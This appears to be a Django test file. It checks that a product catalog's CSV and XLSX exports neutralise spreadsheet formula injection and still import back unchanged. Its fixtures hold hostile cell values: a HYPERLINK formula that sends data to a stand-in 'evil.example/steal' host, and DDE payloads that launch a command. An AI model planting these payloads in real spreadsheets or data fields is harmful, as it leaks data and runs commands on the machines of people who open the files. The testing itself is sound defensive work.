"""A partner writes a product whose name is a spreadsheet formula; the merchandiser who
downloads the catalog export must get text, not a formula (OWASP CSV injection), and the
export still imports back unchanged."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from catalog.factories import gtin13
from catalog.import_export import import_catalog
from catalog.models import Product

pytestmark = pytest.mark.django_db

FORMULA_NAME = '=HYPERLINK("http://evil.example/steal?x="&A1,"Click")'
HOSTILE = {
    "name": FORMULA_NAME,
    "description": "+cmd|' /C calc'!A0",
    "brand": "@SUM(1+1)*cmd|' /C calc'!A0",
    "colour": "-2+3+cmd|' /C calc'!A0",
    "size": "\t=1+1",
}


def create_hostile_product(api_client_for):
    client = api_client_for("catalog:write")
    response = client.post(
        "/api/v1/products",
        {
            "slug": "formula-shoe",
            "name": HOSTILE["name"],
            "description": HOSTILE["description"],
            "brand": HOSTILE["brand"],
            "listings": {"web": {"is_listed": True}},
            "variants": [
                {
                    "sku": "FORMULA-1",
                    "barcode": gtin13(11),
                    "colour": HOSTILE["colour"],
                    "size": HOSTILE["size"],
                    "listings": {"web": {"price": "10.00"}},
                }
            ],
        },
        format="json",
    )
    assert response.status_code == 201, response.content


def download(client, fmt):
    response = client.get(f"/catalog/export.{fmt}")
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def test_csv_export_writes_formulas_as_text(client, staff_in_role, api_client_for, channels):
    create_hostile_product(api_client_for)
    client.force_login(staff_in_role("Merchandiser"))
    header, row = list(csv.reader(io.StringIO(download(client, "csv").decode())))
    cells = dict(zip(header, row, strict=True))
    for column, value in (
        ("product_name", HOSTILE["name"]),
        ("description", HOSTILE["description"]),
        ("brand", HOSTILE["brand"]),
        ("colour", HOSTILE["colour"]),
    ):
        assert cells[column] == "'" + value, column
    for cell in row:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_csv_export_imports_back_unchanged(client, staff_in_role, api_client_for, channels):
    create_hostile_product(api_client_for)
    client.force_login(staff_in_role("Merchandiser"))
    exported = download(client, "csv")
    Product.objects.filter(slug="formula-shoe").update(name="changed")
    report = import_catalog(SimpleUploadedFile("back.csv", exported, "text/csv"))
    assert report.ok and report.applied, report.errors
    product = Product.objects.get(slug="formula-shoe")
    assert product.name == HOSTILE["name"]
    assert product.brand.name == HOSTILE["brand"]
    assert product.variants.get().colour == HOSTILE["colour"]
    assert download(client, "csv") == exported


def test_xlsx_export_has_no_formula_cells(client, staff_in_role, api_client_for, channels):
    create_hostile_product(api_client_for)
    client.force_login(staff_in_role("Merchandiser"))
    workbook = load_workbook(io.BytesIO(download(client, "xlsx")))
    sheet = workbook.active
    header = [cell.value for cell in sheet[1]]
    row = sheet[2]
    assert all(cell.data_type != "f" for cell in row)
    assert row[header.index("product_name")].value == HOSTILE["name"]
